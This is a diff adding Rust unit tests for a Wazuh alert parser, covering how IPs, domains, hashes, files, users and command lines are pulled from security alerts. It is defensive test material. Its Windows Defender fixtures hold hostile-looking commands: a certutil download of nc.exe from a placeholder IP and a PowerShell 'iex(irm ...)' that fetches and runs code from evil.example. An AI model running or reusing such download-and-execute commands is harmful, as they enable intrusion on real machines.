@@ -1,0 +1,218 @@
+//! Fields whose meaning depends on who wrote them, or on what is in them.
+
+use serde_json::{Value, json};
+use wazuh_model::UserPart;
+
+use super::{MD5, SHA256, alert, expect, indicators_of};
+
+#[test]
+fn short_names_are_ends_only_where_they_hold_addresses() {
+    for data in [
+        json!({"src": "203.0.113.9", "dst": "203.0.113.66"}),
+        json!({"event": {"src": "203.0.113.9", "dst": "203.0.113.66"}}),
+    ] {
+        expect(
+            &json!({ "data": data }),
+            &[("ip-src", "203.0.113.9"), ("ip-dst", "203.0.113.66")],
+        );
+    }
+    let notice = alert(&json!({"data": {"note": "Scan::Port_Scan", "src": "203.0.113.9", "dst": "10.0.0.5"}}));
+    let actors = notice.actors();
+    assert_eq!(actors.sources[0].ip.as_deref(), Some("203.0.113.9"));
+    assert_eq!(actors.destinations[0].ip.as_deref(), Some("10.0.0.5"));
+    for other in [
+        json!({"src": "inside", "dst": "outside"}),
+        json!({"src": "http://shop.test-org.com/a.js", "dst": "/srv/8.8.4.4/x"}),
+        json!({"src": "inside:8.8.4.4/443", "dst": "8.8.4.4.example"}),
+        json!({"dst_src": "8.8.4.4", "source": "8.8.4.4"}),
+    ] {
+        let value = json!({ "data": other });
+        expect(&value, &[]);
+        let alert = alert(&value);
+        assert!(
+            alert.actors().sources.is_empty() && alert.actors().destinations.is_empty(),
+            "{value}"
+        );
+    }
+    expect(&json!({"rule": {"src": "8.8.4.4"}, "agent": {"dst": "8.8.4.4"}}), &[]);
+    // Whatever else stands there still tells alerts apart.
+    let key = |interface: &str| {
+        let value = json!({"rule": {"id": "1"}, "agent": {"id": "1"}, "data": {"src": interface, "x": "y"}});
+        alert(&value).fingerprint().key
+    };
+    assert_ne!(key("inside"), key("outside"));
+}
+
+#[test]
+fn fields_of_fortigate_and_yara_are_what_they_hold() {
+    expect(
+        &json!({"data": {"srcip": "10.0.0.50", "dstip": "10.0.0.3", "qname": "c2.evil.example", "ipaddr": "203.0.113.66"}}),
+        &[("domain", "c2.evil.example"), ("ip-any", "203.0.113.66")],
+    );
+    expect(&json!({"data": {"analyticscksum": SHA256}}), &[("sha256", SHA256)]);
+    expect(&json!({"data": {"remip": "203.0.113.9"}}), &[("ip-src", "203.0.113.9")]);
+    let found = alert(&json!({"data": {"yara_rule": "x", "yara_scanned_file": "/tmp/x.bin"}}));
+    assert_eq!(found.actors().files, ["/tmp/x.bin"]);
+    expect(
+        &json!({"data": {"qname": "dc01.corp.local", "analyticscksum": "x"}}),
+        &[],
+    );
+}
+
+#[test]
+fn a_decoder_may_put_a_file_or_a_name_where_others_have_a_url() {
+    let of = |decoder: &str, data: Value| json!({"decoder": {"name": decoder}, "data": data});
+    let infected = of(
+        "clamd",
+        json!({"url": "/home/bob/a.exe", "extra_data": "Win.Trojan.X", "id": MD5}),
+    );
+    expect(&infected, &[("md5", MD5)]);
+    let infected = alert(&infected);
+    let actors = infected.actors();
+    assert_eq!(
+        (actors.files.as_slice(), actors.urls.len()),
+        (&["/home/bob/a.exe".into()][..], 0)
+    );
+    expect(&of("clamd", json!({"url": "/home/bob/a.exe", "id": "393"})), &[]);
+    expect(
+        &of("unbound", json!({"srcip": "10.0.0.50", "url": "c2.evil.example"})),
+        &[("domain", "c2.evil.example")],
+    );
+    // Elsewhere an id is none, and a URL is one.
+    let asked = of("web-accesslog", json!({"url": "/home/bob/a.exe", "id": MD5}));
+    expect(&asked, &[]);
+    assert_eq!(alert(&asked).actors().urls, ["/home/bob/a.exe"]);
+    expect(&of("web-accesslog", json!({"url": "c2.evil.example"})), &[]);
+}
+
+#[test]
+fn only_remote_desktop_has_an_account_in_its_first_value() {
+    let event = |provider: &str| {
+        let value = json!({"data": {"win": {"system": {"providerName": provider, "eventID": "1149"},
+            "eventXML": {"param1": "administrator", "param2": "CORP", "param3": "203.0.113.9"}}}});
+        let alert = alert(&value);
+        let actors = alert.actors();
+        let users = actors.users.iter().map(|user| (user.name.to_string(), user.part));
+        (users.collect::<Vec<_>>(), actors.sources.len())
+    };
+    assert_eq!(
+        event("Microsoft-Windows-TerminalServices-RemoteConnectionManager"),
+        (vec![("administrator".to_owned(), UserPart::Target)], 1)
+    );
+    assert_eq!(event("Microsoft-Windows-Other"), (vec![], 1));
+}
+
+#[test]
+fn the_commands_of_defenders_list_are_looked_through() {
+    let found = |list: &str| {
+        json!({"data": {"win": {"system": {"providerName": "Microsoft-Windows-Windows Defender", "eventID": "1116"},
+            "eventdata": {"path": list, "threat Name": "Trojan:Win32/X"}}}})
+    };
+    let fetched = found(
+        "CmdLine:_C:\\\\Windows\\\\System32\\\\certutil.exe -urlcache -f http://203.0.113.66/nc.exe C:\\\\Users\\\\Public\\\\nc.exe",
+    );
+    expect(
+        &fetched,
+        &[("ip-dst", "203.0.113.66"), ("url", "http://203.0.113.66/nc.exe")],
+    );
+    let fetched = alert(&fetched);
+    let actors = fetched.actors();
+    assert_eq!(
+        actors.process.unwrap().command_line.as_deref(),
+        Some(r"C:\Windows\System32\certutil.exe -urlcache -f http://203.0.113.66/nc.exe C:\Users\Public\nc.exe")
+    );
+    assert_eq!((actors.files.len(), actors.urls.len()), (0, 1));
+    let both =
+        found("CmdLine:_C:\\\\p.exe -c cd C:\\\\x; iex(irm https://evil.example/a); file:_C:\\\\Users\\\\eva\\\\a.ps1");
+    expect(&both, &[("domain", "evil.example"), ("url", "https://evil.example/a")]);
+    let both = alert(&both);
+    let actors = both.actors();
+    assert_eq!(actors.files, [r"C:\Users\eva\a.ps1"]);
+    assert_eq!(
+        actors.process.unwrap().command_line.as_deref(),
+        Some(r"C:\p.exe -c cd C:\x; iex(irm https://evil.example/a)")
+    );
+    // What was found and which command it was tell alerts apart.
+    let key = |list: &str| alert(&found(list)).fingerprint().key;
+    assert_ne!(key("CmdLine:_C:\\\\p.exe -c a"), key("CmdLine:_C:\\\\p.exe -c b"));
+    // What is neither stands as it is.
+    let running = alert(&found("process:_pid:4692,ProcessStart:1"));
+    assert_eq!(running.actors().files, ["process:_pid:4692,ProcessStart:1"]);
+}
+
+#[test]
+fn each_address_of_a_list_is_an_end() {
+    let ends = |value: &Value| {
+        let alert = alert(value);
+        let actors = alert.actors();
+        let ends = actors.sources.iter().chain(&actors.destinations);
+        ends.map(|end| (end.ip.as_deref().unwrap_or_default().to_owned(), end.port))
+            .collect::<Vec<_>>()
+    };
+    let two = || vec![("203.0.113.9".to_owned(), None), ("10.0.0.1".to_owned(), None)];
+    for value in [
+        json!({"data": {"sourceIPs": ["203.0.113.9", "10.0.0.1"], "user": {"username": "system:anonymous"}}}),
+        json!({"data": {"clientip": "203.0.113.9, 10.0.0.1"}}),
+        json!({"data": {"srcip": "203.0.113.9,10.0.0.1"}}),
+        json!({"data": {"clientip": "203.0.113.9:50123, 10.0.0.1:80"}}),
+        json!({"source": {"ip": ["203.0.113.9", "10.0.0.1"]}}),
+        json!({"destination": {"ip": ["203.0.113.9", "10.0.0.1"]}}),
+    ] {
+        assert_eq!(ends(&value), two(), "{value}");
+    }
+    for value in [
+        json!({"data": {"clientip": "203.0.113.9, unknown"}}),
+        json!({"related": {"ip": ["203.0.113.9", "10.0.0.1"]}}),
+        json!({"data": {"win": {"eventdata": {"queryResults": "::ffff:203.0.113.9;10.0.0.1;"}}}}),
+    ] {
+        assert_eq!(ends(&value), [], "{value}");
+    }
+    // It is news when another one is among them.
+    let news = |second: &str| {
+        let value =
+            json!({"rule": {"id": "1"}, "agent": {"id": "1"}, "data": {"clientip": ["203.0.113.9", second], "x": "y"}});
+        alert(&value).fingerprint().distinct
+    };
+    assert_ne!(news("10.0.0.1"), news("10.0.0.2"));
+}
+
+#[test]
+fn what_stands_for_no_value_is_none() {
+    for nothing in ["N/A", "n/a", "(none)", "-", ""] {
+        let value = json!({"data": {"user": nothing, "dst_host": nothing, "action": "tunnel-up", "file": nothing}});
+        let alert = alert(&value);
+        let actors = alert.actors();
+        assert!(
+            actors.users.is_empty()
+                && actors.domains.is_empty()
+                && actors.files.is_empty()
+                && actors.destinations.is_empty(),
+            "{value}"
+        );
+    }
+    let named = alert(&json!({"data": {"user": "none"}}));
+    assert_eq!(named.actors().users[0].name, "none");
+}
+
+#[test]
+fn the_domain_of_an_account_in_evidence_is_no_name_of_the_internet() {
+    let evidence = |account: &str| {
+        json!({"data": {"ms-graph": {"evidence": [{"deviceDnsName": "ws-1.corp.test-org.com"},
+            {account: {"userPrincipalName": "eva", "domainName": "corp.test-org.com"}}]}}})
+    };
+    for account in ["userAccount", "loggedOnUsers"] {
+        expect(&evidence(account), &[]);
+        let alert = alert(&evidence(account));
+        assert_eq!(alert.actors().users[0].domain.as_deref(), Some("corp.test-org.com"));
+    }
+    let seen = json!({"data": {"ms-graph": {"evidence": [{"domainName": "evil.example"}]}}});
+    expect(&seen, &[("domain", "evil.example")]);
+}
+
+#[test]
+fn the_machine_of_a_sensor_is_no_end_of_a_connection() {
+    let detected = |name: &str| json!({"data": {"event": {"ComputerName": "WS-1", name: "8.8.4.4"}}});
+    expect(&detected("LocalIP"), &[]);
+    assert!(alert(&detected("LocalIP")).actors().destinations.is_empty());
+    assert_eq!(indicators_of(&detected("RemoteIP")), [("ip-src", "8.8.4.4".to_owned())]);
+}
